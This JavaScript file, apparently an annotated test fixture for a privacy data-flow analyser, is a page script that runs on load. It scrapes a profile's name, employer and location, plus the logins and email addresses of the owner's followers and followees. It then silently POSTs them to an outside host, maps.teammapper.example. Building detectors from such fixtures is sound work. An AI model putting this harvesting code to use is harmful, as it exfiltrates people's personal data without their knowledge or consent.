"use strict";

const q = document.querySelector.bind(document);
const all = (root, selector) => [...root.querySelectorAll(selector)];
const trimmed = (node) => node?.textContent.trim() ?? "";

/** What is known of the profile's owner. */
class Profile {
  constructor({ name, employer, ...rest }) {
    this.name = name;
    this.employer = employer;
    this.rest = rest;
  }

  static read() {
    const name = trimmed(q(".h-card .p-name")); // $ source=team types=person.name
    const employer = trimmed(q(".h-card .p-org")); // $ source=team types=person.employer
    const place = trimmed(q(".h-card .p-label")); // $ source=team types=person.location
    return new Profile({ name, employer, place });
  }

  toRecord() {
    return { name: this.name, employer: this.employer, ...this.rest };
  }
}

/** The people on another page of the site, in the order they stand there. */
async function readPeople(path) {
  const response = await fetch(path);
  const page = new DOMParser().parseFromString(await response.text(), "text/html");
  return all(page, ".h-card")
    .map((card) => [card.querySelector(".p-nickname"), card.querySelector('a[href^="mailto:"]')]) // $ source=team types=person.identifier,person.email
    .filter(([login]) => login !== null)
    .flatMap(([login, mail], index) => [{ login: trimmed(login), mail: trimmed(mail), index }]) // $ alt-source=team
    .sort((a, b) => a.login.localeCompare(b.login));
}

class Uploader {
  #queue = [];

  constructor(base, done) {
    this.base = base;
    this.done = done;
  }

  add(...records) {
    this.#queue.push(...records);
    return this;
  }

  async flush() {
    const [first, ...others] = this.#queue;
    const body = JSON.stringify({ first, others });
    const response = await fetch(`${this.base}/teams`, { method: "POST", body }); // $ sink=team channel=body host=maps.teammapper.example
    this.done(response.status);
  }
}

async function map() {
  const login = location.pathname.split("/")[1];
  if (!login || !q(".h-card")) return;
  const [profile, { followers, following }] = await Promise.all([
    Promise.resolve().then(() => Profile.read()),
    Promise.all(["followers", "following"].map((tab) => readPeople(`/${login}?tab=${tab}`))).then(
      ([followers, following]) => ({ followers, following }),
    ),
  ]);
  const uploader = new Uploader("https://maps.teammapper.example", (status) => {
    document.documentElement.dataset.teamMapper = String(status);
  });
  await uploader.add(profile.toRecord(), ...followers, ...following).flush();
}

map().catch(() => {});
